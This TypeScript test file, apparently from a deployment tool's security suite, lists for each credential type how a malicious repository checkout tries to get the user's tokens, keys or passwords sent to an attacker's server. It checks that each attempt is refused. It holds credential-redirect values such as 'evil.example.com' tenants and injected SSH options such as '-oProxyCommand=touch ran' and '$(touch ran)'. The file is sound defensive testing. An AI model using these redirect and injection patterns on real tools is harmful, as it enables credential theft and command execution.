/** For each credential of the table, what a checkout's writer tries to have it sent to a server of theirs. */
import { existsSync } from "node:fs";
import { join } from "node:path";
import type { CredentialName } from "../../../src/core/credentials/index.ts";
import { systemClock } from "../../../src/core/base/index.ts";
import { parseConfig } from "../../../src/config/index.ts";
import { openBackupBucket } from "../../../src/providers/aws/index.ts";
import { createAccountKey } from "../../../src/providers/acme/index.ts";
import { fileStore } from "../../../src/providers/tls/index.ts";
import { openbaoMounts } from "../../../src/stack/parts/openbao/index.ts";
import { type Checkout, issuer } from "./checkout.ts";
import {
  asSshIsCalled,
  asTokenFile,
  type Attack,
  config,
  elsewhere,
  externalAccount,
  kubeconfig,
  mint,
  ofFile,
  refused,
  said,
  toMachine,
  unnamed,
} from "./tries.ts";

/** A config with a server of its writer's, beside a token file. */
async function namedByConfig(checkout: Checkout, tokenFile: string): Promise<string> {
  const { address } = checkout.server;
  await config(
    checkout,
    `cluster: {server: "${address}", caFile: ca.pem, tokenFile: ${JSON.stringify(tokenFile)}}`,
  );
  return said(checkout, mint);
}

const azure = {
  tenant: "11111111-1111-1111-1111-111111111111",
  subscription: "22222222-2222-2222-2222-222222222222",
  resourceGroup: "g",
  identities: [],
};

/** Every credential has its attack: one without does not compile. */
export const attacks: Readonly<Record<CredentialName, readonly Attack[]>> = {
  "openbao-token": [
    {
      tries: "an OpenBao of the config",
      secret: "hvs.of-the-person",
      async attack(checkout) {
        await config(
          checkout,
          `openbao: [{address: "${checkout.plain.address}", mount: m, roles: [{name: web, serviceAccounts: [shop/web], policies: [web]}]}]`,
        );
        const env = { BAO_ADDR: "https://bao.example.com", BAO_TOKEN: "hvs.of-the-person" };
        return said(checkout, ["plan"], env);
      },
      refusal: elsewhere,
    },
  ],
  "workload-token": [
    {
      tries: "an OpenBao of the config, with a token for AWS",
      secret: "a.token.for-aws",
      async attack(checkout) {
        const roles = [{ name: "web", serviceAccounts: ["shop/web"], policies: ["web"] }];
        const openbao = [
          { address: checkout.plain.address, mount: "m", audience: "sts.amazonaws.com", roles },
        ];
        const text = JSON.stringify({ stack: "prod", issuer, openbao });
        const parsed = await parseConfig(text, join(checkout.folder, "podtrust.yaml"), {});
        const [mount] = openbaoMounts({ config: parsed, env: {}, clock: systemClock });
        const [role] = parsed.openbao[0]?.roles ?? [];
        if (mount === undefined || role === undefined) return "the config has no role";
        return refused(() => mount.login(role, "a.token.for-aws", AbortSignal.timeout(5000)));
      },
      refusal: elsewhere,
    },
  ],
  kubeconfig: [
    ...ofFile(
      {
        tries: "a kubeconfig of the checkout, whose user has a token file of the person's",
        secret: "token-of-the-person",
        refusal: elsewhere,
      },
      async (checkout, tokenFile) => {
        await kubeconfig(checkout, { tokenFile });
        await config(checkout, "cluster: {kubeconfig: kubeconfig}");
        return said(checkout, mint);
      },
    ),
    ...["client-key", "client-certificate"].map((key): Attack => ({
      tries: `a kubeconfig of the checkout, whose user has a file of the person's as ${key}`,
      secret: "key-of-the-person",
      async attack(checkout) {
        const file = await checkout.write(join(checkout.home, ".key"), "key-of-the-person");
        await kubeconfig(checkout, { "client-key": "ca.pem", "client-certificate": "ca.pem", [key]: file });
        await config(checkout, "cluster: {kubeconfig: kubeconfig}");
        return said(checkout, mint);
      },
      refusal: elsewhere,
    })),
    {
      tries: "a kubeconfig of the person's, reached through a proxy of the checkout's kubeconfig beside it",
      secret: "token-behind-a-proxy",
      async attack(checkout) {
        await kubeconfig(
          checkout,
          { token: "token-behind-a-proxy" },
          { "proxy-url": checkout.plain.address },
        );
        await config(checkout, "cluster: {kubeconfig: kubeconfig}");
        return said(checkout, mint);
      },
      refusal: /kubeconfig-unsupported/u,
    },
  ],
  "cluster-token": ofFile(
    {
      tries: "a server of the config, beside a token file of the person's",
      secret: "cluster-token-of-the-person",
      refusal: elsewhere,
    },
    namedByConfig,
  ),
  aws: [
    {
      tries: "an S3 endpoint of the config, with credentials of a session",
      secret: "session-token-of-the-person",
      attack(checkout) {
        const credentials = {
          accessKeyId: "ASIAIOSFODNN7EXAMPLE",
          secretAccessKey: "s",
          sessionToken: "session-token-of-the-person",
        };
        const bucket = openBackupBucket(
          { bucket: "theirs", prefix: "" },
          {
            region: "eu-central-1",
            credentials,
            s3Endpoint: checkout.plain.address,
            attempts: 1,
            consenting: { env: {} },
          },
        );
        const put = (): Promise<void> => bucket.put("file", Buffer.from("x"), AbortSignal.timeout(5000));
        return refused(put).finally(() => bucket.close());
      },
      refusal: elsewhere,
    },
  ],
  "google-credentials": [
    {
      tries: "a token endpoint in the file that is none of Google's",
      secret: "subject-for-google",
      attack: externalAccount("subject-for-google", ({ server }) => ({
        token_url: `${server.address}/v1/token`,
      })),
      refusal: /gcp-credentials-invalid|credential-elsewhere/u,
    },
    {
      tries: "an impersonation of somebody else's host in the file",
      secret: "subject-for-google",
      attack: externalAccount("subject-for-google", ({ server }) => ({
        service_account_impersonation_url: `${server.address}/v1/projects/-/serviceAccounts/a@b.iam.gserviceaccount.com:generateAccessToken`,
      })),
      refusal: elsewhere,
    },
  ],
  "google-subject-token": [
    {
      tries: "an address in the file that is asked for a token",
      secret: "header-of-the-file",
      attack: externalAccount("subject", ({ plain }) => ({
        credential_source: {
          url: `${plain.address}/admin?restart=1`,
          headers: { "x-own": "header-of-the-file" },
        },
      })),
      refusal: elsewhere,
    },
    {
      tries: "a program in the file",
      secret: "token-of-a-program",
      attack(checkout) {
        const command = join(checkout.folder, "program");
        return externalAccount("token-of-a-program", () => ({
          credential_source: { executable: { command: `/usr/bin/touch ${command}` } },
        }))(checkout).then((text) => (existsSync(command) ? "the program was run" : text));
      },
      refusal: /gcp-credentials-unsupported/u,
    },
  ],
  "dns-publisher-token": toMachine(
    "the config's machine, by publisherTokenFile",
    "dns-token-of-the-person",
    () => ({ https: { acme: { email: "a@example.com", challenge: "dns-01" } } }),
    (publisherTokenFile) => ({ dns: { cloudflare: { publisherTokenFile } } }),
  ),
  "acme-eab": toMachine("the config's machine and directory, by eab", "eab-of-the-person", (file) => ({
    https: {
      acme: {
        email: "a@example.com",
        directory: "https://ca.example.net/d",
        eab: { kidFile: file, hmacKeyFile: file },
      },
    },
  })),
  "tls-key": toMachine("the config's machine, by keyFile", "ssh-key-of-the-person", (keyFile) => ({
    https: { certificateFile: "ca.pem", keyFile },
  })),
  "machine-file": toMachine(
    "the config's machine, by certificateFile",
    "notes-of-the-person",
    (certificateFile) => ({
      https: { certificateFile, keyFile: "ca.pem" },
    }),
  ),
  "backup-key": toMachine(
    "the config's machine, by credentialsFile",
    "access-key-of-the-person",
    (credentialsFile) => ({
      https: { acme: { email: "a@example.com" } },
      backup: {
        recipients: ["age1lggyhqrw2nlhcxprm67z43rta597azn8gknawjehu9d9dl0jq3yqqvfafg"],
        every: "6h",
        s3: { bucket: "theirs", region: "eu-central-1", credentialsFile },
      },
    }),
  ),
  "cloudflare-token": [
    unnamed("cf-token-of-the-person", "CLOUDFLARE_API_TOKEN", ({ plain }) => ({
      dns: { cloudflare: { baseUrl: plain.address } },
    })),
    ...asTokenFile(/cloudflare-token-refused/u, (tokenFile) => ({
      dns: { cloudflare: { tokenFile } },
    })),
  ],
  "hetzner-token": [
    unnamed("h".repeat(64), "HCLOUD_TOKEN", ({ plain }) => ({
      machine: {
        hetzner: { type: "cax11", location: "nbg1", image: "ubuntu-24.04", endpoint: plain.address },
      },
    })),
    ...asTokenFile(/hetzner-token-malformed/u, (tokenFile) => ({
      machine: { hetzner: { type: "cax11", location: "nbg1", image: "ubuntu-24.04", tokenFile } },
    })),
  ],
  "azure-client-secret": [
    unnamed("secret-of-the-person", "AZURE_CLIENT_SECRET_FILE", ({ plain }) => ({
      azure: [{ ...azure, authority: plain.address }],
    })),
    ...["evil.example.com", `${azure.tenant}@evil.example.com`, "../..", "//evil.example.com"].map((tenant) =>
      unnamed(
        "secret-of-the-person",
        "AZURE_CLIENT_SECRET_FILE",
        () => ({ azure: [{ ...azure, tenant }] }),
        `the tenant ${tenant} in the token endpoint's path`,
      ),
    ),
  ],
  "azure-federated-token": [
    unnamed("assertion-of-the-person", "AZURE_FEDERATED_TOKEN_FILE", ({ plain }) => ({
      azure: [{ ...azure, cloud: plain.address }],
    })),
  ],
  "pod-token": [
    unnamed("/var/run/secrets/token", "KUBERNETES_SERVICE_HOST", ({ server }) => ({
      cluster: { inCluster: true, server: server.address },
    })),
    ...ofFile(
      {
        tries: "a server of the config, beside the file that the kubelet mounts",
        secret: "token-of-the-pod",
        refusal: elsewhere,
      },
      namedByConfig,
    ),
  ],
  "admin-certificate": [
    unnamed("certificate-of-the-machine", "ADMIN_KUBECONFIG", ({ server }) => ({
      cluster: { kubeconfig: "k", adminKubeconfig: server.address },
    })),
  ],
  "age-identity": [
    unnamed("AGE-SECRET-KEY-1", "AGE_IDENTITY", () => ({
      publisher: { source: { kubeconfig: "k" }, backup: { identity: "../identity" } },
    })),
    {
      tries: "a backup of the checkout that is no backup",
      secret: "AGE-SECRET-KEY-1QQPQQPQQPQ",
      async attack(checkout) {
        const identity = await checkout.write(join(checkout.home, "identity"), "AGE-SECRET-KEY-1QQPQQPQQPQ");
        await checkout.write("backup.age", "age-encryption.org/v1\n-> X25519 aaaa\nbbbb\n--- cccc\n");
        await config(checkout, "publisher: {source: {kubeconfig: k}, https: {acme: {email: a@example.com}}}");
        return said(checkout, ["backup", "verify", "backup.age", "--identity", identity]);
      },
      refusal: /code: (?:backup|age)-/u,
    },
  ],
  "signing-key": [
    unnamed("signing-key-of-the-person", "SIGNING_KEY", ({ plain }) => ({
      signer: { status: plain.address },
    })),
  ],
  "pkcs11-pin": [
    unnamed("1234", "PODTRUST_PKCS11_PIN_FILE", ({ plain }) => ({
      signer: { holder: plain.address },
    })),
  ],
  "signer-peer-key": [
    unnamed("peer-key-of-the-person", "PEER_KEY", ({ home, server }) => ({
      signer: { peer: server.address, peerKey: join(home, "key") },
    })),
  ],
  "explained-token": [
    unnamed("token-that-is-explained", "TOKEN", ({ server }) => ({
      explain: { token: "../token", to: server.address },
    })),
  ],
  "store-key": [
    unnamed("store-key-of-the-person", "STORE_KEY", ({ home }) => ({
      publisher: { source: { kubeconfig: "k" }, storeKeys: home },
    })),
  ],
  "acme-account-key": [
    unnamed("account-key-of-the-person", "ACCOUNT_KEY", ({ server }) => ({
      publisher: {
        source: { kubeconfig: "k" },
        https: { acme: { email: "a@example.com", accountKey: server.address } },
      },
    })),
    {
      tries: "a directory of the config, with the state folder of the person's publisher",
      secret: "PRIVATE KEY",
      async attack({ home, server }) {
        const directory = join(home, "state", "certificates");
        const store = fileStore({ directory, clock: systemClock });
        const key = createAccountKey().pem;
        await store.saveAccount("https://acme.example.com/directory", "a@example.com", {
          key,
          uri: "https://acme.example.com/a/1",
        });
        const found = await store.loadAccount(`${server.address}/directory`, "a@example.com");
        return found === undefined ? "no account of that directory" : found.key;
      },
      refusal: /no account of that directory/u,
    },
  ],
  "ssh-key": [
    unnamed("agent-socket", "SSH_AUTH_SOCK", () => ({
      machine: { ssh: { address: "192.0.2.1", user: "root", forwardAgent: true } },
    })),
    ...["-oProxyCommand=touch ran", "a -oProxyCommand=touch", "$(touch ran)"].flatMap((word) =>
      ["address", "user", "proxyJump"].map((key) =>
        unnamed(
          "agent-socket",
          "SSH_AUTH_SOCK",
          () => ({ machine: { ssh: { address: "192.0.2.1", user: "root", [key]: word } } }),
          `an option of ssh in machine.ssh.${key}: ${word}`,
        ),
      ),
    ),
    {
      tries: "a machine of the config, for a person whose ssh forwards the agent and sends the environment",
      secret: "bao-token-beside-ssh",
      attack: asSshIsCalled,
      refusal: /^(?=.*-o ForwardAgent=no )(?=.*-o ForwardX11=no )(?=.*-o RemoteCommand=none )(?!.*ran)/u,
    },
  ],
  "proxy-password": [
    {
      tries: "an address that the config names, asked through the person's proxy",
      secret: "proxy-password",
      async attack(checkout) {
        await config(
          checkout,
          `openbao: [{address: "https://192.0.2.1:1", mount: m, roles: [{name: web, serviceAccounts: [shop/web], policies: [web]}]}]`,
        );
        const proxy = checkout.plain.address.replace("//", `//me:proxy-password@`);
        return said(checkout, ["plan"], { HTTPS_PROXY: proxy, ALL_PROXY: proxy, HTTP_PROXY: proxy });
      },
      refusal: /openbao-token-missing/u,
    },
  ],
};
